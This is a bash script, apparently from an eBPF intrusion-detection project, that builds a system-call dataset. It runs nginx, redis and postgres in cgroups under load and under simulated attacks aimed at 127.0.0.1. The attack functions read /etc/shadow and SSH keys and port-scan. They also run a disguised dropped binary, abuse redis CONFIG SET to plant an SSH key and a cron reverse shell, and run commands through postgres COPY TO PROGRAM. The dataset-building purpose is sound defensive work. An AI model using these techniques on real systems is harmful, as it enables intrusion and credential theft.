#!/usr/bin/env bash
# Records meshward's system-call dataset on this machine (root, Debian 12):
# nginx, redis and postgres from Debian, each in a cgroup v2 directory of its
# own (the test "container"), under load generators that run outside it, and
# attacks run inside the same containers. Every server runs in two versions
# (v2 is a simulated image update: other configuration, other code paths).
#
#   ebpf-agent/dataset/record.sh [OUT]     (default OUT: build/dataset)
#
# Layout of OUT: WORKLOAD/VERSION/{train,first,normal,attack}/SESSION-PID.txt,
# one ADFA-format trace per process. "first" is v2's first round (what a
# model learned from scratch would have); attack traces are the processes an
# attack created, or the server process it ran in (redis's CONFIG SET attack,
# postgres's COPY ... TO PROGRAM backend); processes that were running before
# an attack started are left out of its session. Only 127.0.0.1 is used.
set -euo pipefail

[ "$(id -u)" = 0 ] || { echo "record.sh: needs root (eBPF, cgroups)"; exit 1; }
for c in nginx redis-server redis-benchmark redis-cli pgbench psql wrk perl curl; do
	command -v $c >/dev/null || { echo "record.sh: missing $c: apt-get install nginx-light redis-server redis-tools postgresql wrk perl curl"; exit 1; }
done
PGBIN=$(ls -d /usr/lib/postgresql/*/bin | sort -V | tail -1)

TOP=$(cd "$(dirname "$0")/../.." && pwd)
OUT=$(realpath -m "${1:-$TOP/build/dataset}")
AGENT=$TOP/build/ebpf-agent
(cd "$TOP" && go build -o "$AGENT" ./ebpf-agent/cmd/ebpf-agent)
CGROOT=$(awk '{for (i = 1; i < NF; i++) if ($i == "-") { if ($(i+1) == "cgroup2") { print $5; exit } break }}' /proc/self/mountinfo)
[ -n "$CGROOT" ] || { echo "record.sh: no cgroup2 mount"; exit 1; }

WORK=$(mktemp -d /tmp/meshward-dataset.XXXXXX)
chmod 755 "$WORK"
RAW=$WORK/raw
mkdir -p "$RAW" "$OUT"
SERVER_PID=
CG=

cleanup() {
	[ -n "$SERVER_PID" ] && kill "$SERVER_PID" 2>/dev/null && wait "$SERVER_PID" 2>/dev/null || true
	[ -n "$CG" ] && [ -d "$CG" ] && { for p in $(cat "$CG/cgroup.procs"); do kill -9 "$p" 2>/dev/null || true; done; sleep 0.3; rmdir "$CG" 2>/dev/null || true; }
	rm -rf "$WORK" /tmp/.kworker-upd /tmp/meshward-pwn* /tmp/meshward-redis-loot
}
trap cleanup EXIT

# in_cgroup CMD...: run CMD inside the container's cgroup from its first instruction.
in_cgroup() { bash -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$CG" "$@"; }

start_server() { # NAME CMD...
	CG=$CGROOT/meshward-dataset-$1
	mkdir -p "$CG"
	shift
	# Not through in_cgroup: $! must be the server's own pid (bash execs it).
	bash -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$CG" "$@" >"$WORK/server.log" 2>&1 &
	SERVER_PID=$!
}

stop_server() {
	kill "$SERVER_PID" 2>/dev/null || true
	wait "$SERVER_PID" 2>/dev/null || true
	SERVER_PID=
	for p in $(cat "$CG/cgroup.procs"); do kill -9 "$p" 2>/dev/null || true; done
	sleep 0.5
	rmdir "$CG"
	CG=
}

# session DEST NAME FN: record the container while FN runs, then split the
# recording into DEST, leaving out the pids in $EXCLUDE.
session() {
	local dest=$1 name=$2 fn=$3 rec
	"$AGENT" record --cgroup "$CG" --out "$RAW/$name.trace" 2>"$WORK/record.log" &
	rec=$!
	sleep 1 # the program is attached
	$fn
	sleep 0.3
	kill -INT $rec
	wait $rec || { cat "$WORK/record.log"; exit 1; }
	local args=()
	for p in ${EXCLUDE:-}; do args+=(--exclude-pid "$p"); done
	"$AGENT" split --out "$dest" --min 10 "${args[@]}" "$RAW/$name.trace" 2>/dev/null
	echo "  $name: $(sed -n 's/recorded \([0-9]*\).*/\1/p' "$WORK/record.log") system calls"
}

# attacks DEST KEEP_PID: every attack of the list, each in a session of its
# own; the processes already in the container are not attack traces, but
# KEEP_PID (the server an in-process attack runs in) is, in that attack's
# session only.
attacks() {
	local dest=$1 keep=${2:-} extra before
	before=$(cat "$CG/cgroup.procs")
	EXCLUDE=$before
	session "$dest" attack-shell atk_shell
	session "$dest" attack-credentials atk_credentials
	session "$dest" attack-scan atk_scan
	session "$dest" attack-dropped-binary atk_dropped
	EXCLUDE=$(echo "$before" | grep -vx "${keep:-none}" || true)
	for extra in ${INPROCESS:-}; do session "$dest" "attack-$extra" "atk_$extra"; done
	EXCLUDE=
}

atk_shell() { in_cgroup /bin/sh -c 'id; uname -a; ls -la / /tmp; cat /proc/self/status; ps aux' >/dev/null 2>&1 || true; }
atk_credentials() {
	in_cgroup /bin/sh -c 'cat /etc/passwd /etc/shadow; ls -la /root /root/.ssh; cat /root/.ssh/id_* 2>/dev/null;
		env; tr "\0" "\n" </proc/1/environ; find /etc /var/lib -maxdepth 3 -name "*.key" -o -maxdepth 3 -name "*.pem"' >/dev/null 2>&1 || true
}
atk_scan() { in_cgroup /bin/bash -c 'for p in $(seq 1 3000); do if : 2>/dev/null 3<>/dev/tcp/127.0.0.1/$p; then echo open $p; fi; done' >/dev/null 2>&1 || true; }
atk_dropped() {
	install -m 755 /usr/bin/perl /tmp/.kworker-upd # dropped through the app
	in_cgroup /tmp/.kworker-upd -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
		connect(S, sockaddr_in(4444, inet_aton("127.0.0.1"))) or print "no C2\n";
		open(F, "</etc/passwd"); my @u = <F>; opendir(D, "/proc"); my @p = readdir(D); print scalar(@u), " ", scalar(@p), "\n";' >/dev/null 2>&1 || true
	rm -f /tmp/.kworker-upd
}

# nginx ------------------------------------------------------------------
nginx_conf() { # VERSION
	local d=$WORK/nginx-$1
	mkdir -p "$d/www/static" "$d/logs"
	echo '<html><body>shop</body></html>' >"$d/www/index.html"
	head -c 1048576 /dev/urandom >"$d/www/static/big.bin"
	for i in $(seq 1 20); do echo "item $i" >"$d/www/static/item$i.txt"; done
	local extra=""
	[ "$1" = v2 ] && extra='gzip on; gzip_types text/plain application/json text/html; gzip_min_length 16;
		open_file_cache max=64; sendfile off; log_format j escape=json "{\"t\":\"$time_iso8601\",\"u\":\"$uri\",\"s\":$status}";'
	local log="access_log $d/logs/access.log;"
	[ "$1" = v2 ] && log="access_log $d/logs/access.log j;"
	cat >"$d/nginx.conf" <<-EOF
	worker_processes 2;
	pid $d/nginx.pid;
	error_log $d/logs/error.log;
	events { worker_connections 256; }
	http {
		$extra
		$log
		server {
			listen 127.0.0.1:18080;
			root $d/www;
			location /api/ { default_type application/json; return 200 '{"orders":[1,2,3]}'; }
		}
	}
	EOF
	echo "$d"
}

nginx_load() {
	local u=http://127.0.0.1:18080
	wrk -t1 -c4 -d1s $u/ >/dev/null
	wrk -t1 -c2 -d1s $u/static/big.bin >/dev/null
	wrk -t1 -c4 -d1s -H 'Accept-Encoding: gzip' $u/api/orders >/dev/null
	wrk -t1 -c2 -d1s -H 'Connection: close' $u/static/item7.txt >/dev/null
	for i in $(seq 1 40); do curl -s -o /dev/null $u/static/item$((i % 25)).txt; done
	nginx -c "$NGINX_DIR/nginx.conf" -s reopen
}

record_nginx() {
	for v in v1 v2; do
		NGINX_DIR=$(nginx_conf $v)
		echo "nginx $v"
		start_server nginx nginx -c "$NGINX_DIR/nginx.conf" -g 'daemon off;'
		sleep 1
		rounds nginx $v nginx_load
		INPROCESS= attacks "$OUT/nginx/$v/attack"
		stop_server
	done
}

# rounds WORKLOAD VERSION LOADFN: v1 trains for three rounds and is then
# scored on two; v2 has one first round and two to score.
rounds() {
	local d=$OUT/$1/$2
	if [ "$2" = v1 ]; then
		for r in 1 2 3; do session "$d/train" train-$r "$3"; done
	else
		session "$d/first" first-1 "$3"
	fi
	for r in 1 2; do session "$d/normal" normal-$r "$3"; done
}

# redis ------------------------------------------------------------------
redis_load() {
	redis-benchmark -p 16379 -q -n 8000 -c 4 -t set,get,incr,lpush,rpush,lpop,rpop,sadd,hset,spop,zadd,lrange_100,mset >/dev/null
	redis-benchmark -p 16379 -q -n 2000 -c 8 -P 4 -t set,get >/dev/null
	redis-cli -p 16379 bgsave >/dev/null
	sleep 0.5
	redis-cli -p 16379 info >/dev/null
}

atk_redis_config() {
	mkdir -p /tmp/meshward-redis-loot/ssh /tmp/meshward-redis-loot/cron
	redis-cli -p 16379 >/dev/null <<-EOF
	CONFIG SET dir /tmp/meshward-redis-loot/ssh
	CONFIG SET dbfilename authorized_keys
	SET pwn "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMeshwardDatasetKeyOnlyForTests attacker\n\n"
	SAVE
	CONFIG SET dir /tmp/meshward-redis-loot/cron
	CONFIG SET dbfilename root
	SET pwn "\n\n* * * * * bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'\n\n"
	SAVE
	CONFIG SET dir $REDIS_DIR
	CONFIG SET dbfilename dump.rdb
	DEL pwn
	EOF
}

record_redis() {
	for v in v1 v2; do
		REDIS_DIR=$WORK/redis-$v
		mkdir -p "$REDIS_DIR"
		local extra=(--appendonly no)
		[ "$v" = v2 ] && extra=(--appendonly yes --appendfsync everysec --io-threads 2 --lazyfree-lazy-user-del yes)
		echo "redis $v"
		start_server redis redis-server --port 16379 --bind 127.0.0.1 --save '' --dir "$REDIS_DIR" \
			--daemonize no --enable-protected-configs yes "${extra[@]}"
		sleep 1
		rounds redis $v redis_load
		INPROCESS=redis_config attacks "$OUT/redis/$v/attack" "$SERVER_PID"
		stop_server
	done
}

# postgres ----------------------------------------------------------------
PSQL=(psql -h 127.0.0.1 -p 15432 -U postgres -q -X)
pg_load() {
	pgbench -h 127.0.0.1 -p 15432 -U postgres -c 4 -j 2 -T 2 bench >/dev/null 2>&1
	pgbench -h 127.0.0.1 -p 15432 -U postgres -S -c 4 -j 2 -T 1 bench >/dev/null 2>&1
	pgbench -h 127.0.0.1 -p 15432 -U postgres -C -c 2 -T 1 bench >/dev/null 2>&1
	"${PSQL[@]}" -d bench -c 'VACUUM ANALYZE pgbench_accounts' -c 'CHECKPOINT' >/dev/null
}

atk_pg_program() {
	"${PSQL[@]}" -d bench >/dev/null 2>&1 <<-'EOF' || true
	SELECT pg_read_file('/etc/passwd');
	SELECT pg_ls_dir('/root');
	CREATE TEMP TABLE loot(l text);
	COPY loot FROM '/etc/shadow';
	COPY (SELECT 1) TO PROGRAM 'id > /tmp/meshward-pwn; cat /etc/hostname >> /tmp/meshward-pwn';
	COPY loot FROM PROGRAM 'ls -la /var/lib/postgresql';
	EOF
}

record_postgres() {
	for v in v1 v2; do
		local d=$WORK/pg-$v
		install -d -o postgres -g postgres "$d" "$WORK/pgsock-$v"
		setpriv --reuid=postgres --regid=postgres --init-groups "$PGBIN/initdb" -D "$d/data" -U postgres --auth=trust >/dev/null
		local extra=()
		[ "$v" = v2 ] && extra=(-c jit=off -c synchronous_commit=off -c wal_compression=on -c shared_buffers=64MB -c max_wal_size=64MB -c autovacuum_naptime=5)
		echo "postgres $v"
		start_server postgres setpriv --reuid=postgres --regid=postgres --init-groups "$PGBIN/postgres" -D "$d/data" \
			-p 15432 -k "$WORK/pgsock-$v" -c listen_addresses=127.0.0.1 "${extra[@]}"
		for i in $(seq 1 50); do "${PSQL[@]}" -c 'select 1' >/dev/null 2>&1 && break; sleep 0.2; done
		"${PSQL[@]}" -c 'CREATE DATABASE bench' >/dev/null
		pgbench -h 127.0.0.1 -p 15432 -U postgres -i -s 2 -q bench >/dev/null 2>&1
		rounds postgres $v pg_load
		INPROCESS=pg_program attacks "$OUT/postgres/$v/attack"
		stop_server
	done
}

rm -rf "${OUT:?}"/{nginx,redis,postgres}
record_nginx
record_redis
record_postgres
echo "dataset in $OUT: $(find "$OUT" -name '*.txt' | wc -l) traces, $(du -sh "$OUT" | cut -f1)"
